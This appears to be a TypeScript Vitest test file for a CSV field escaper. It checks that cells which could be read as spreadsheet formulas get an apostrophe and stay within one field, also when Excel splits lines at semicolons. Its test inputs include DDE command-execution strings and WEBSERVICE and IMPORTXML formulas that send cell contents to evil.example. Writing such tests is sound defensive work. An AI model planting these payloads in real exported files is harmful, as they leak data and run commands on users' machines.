import fc from "fast-check";
import { expect, test } from "vitest";
import { csvField } from "./csv";

/** What a spreadsheet program gets when it reads a field by RFC 4180. */
function read(field: string): string {
  expect(field).toMatch(/^"([^"]|"")*"$/);
  return field.slice(1, -1).replaceAll('""', '"');
}

/** The cells that German and French Excel make of a line of ours: it splits at `;`, and quotes count only where a cell begins. */
function semicolonCells(line: string): string[] {
  return line.split(/\r\n|[;\t\r\n]/).map((cell) => cell.replace(/^(?:[\s\p{Cc}\p{Cf}]|"(?=.))+/u, ""));
}

const starts = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\t=", "\u200b=", "＝", "＋", "－", "＠", "|", "%"];
const rests = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "SUM(A1:A9)",
  'x","=1',
  "x;=1",
  "'=1",
  "=1",
  "\n=1\r\n",
  "",
];
const separators = ["", "x;", "x; ", ";;", 'x";', 'x;"', 'x;""', "x\t", "x\r\n", "x;\u200b", "x;'", '","a;'];
const FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u;

test("what could be a formula begins with an apostrophe, and nothing leaves its field", () => {
  expect(starts.length * rests.length).toBeGreaterThanOrEqual(200);
  for (const start of starts) {
    for (const rest of rests) {
      const value = read(csvField(start + rest));
      expect(value, JSON.stringify(start + rest)).toMatch(/^'/);
      expect(value.replaceAll("'", "")).toBe((start + rest).replaceAll("'", ""));
    }
  }
});

test("where Excel splits lines at semicolons, no cell is a formula either", () => {
  let tried = 0;
  for (const separator of separators) {
    for (const start of starts) {
      for (const rest of rests) {
        const line = `"1",${csvField("Alex Agent")},${csvField(separator + start + rest)},"x"\r\n`;
        for (const cell of semicolonCells(line)) expect(cell, JSON.stringify(line)).not.toMatch(FORMULA);
        tried += 1;
      }
    }
  }
  expect(tried).toBeGreaterThan(2000);
});

test("any text is one field, and comes out as it went in, but for the apostrophes", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      const value = read(csvField(text));
      expect(value.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
      for (const cell of semicolonCells(`"1",${csvField(text)},"x"`)) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    }),
    { numRuns: 300 },
  );
});
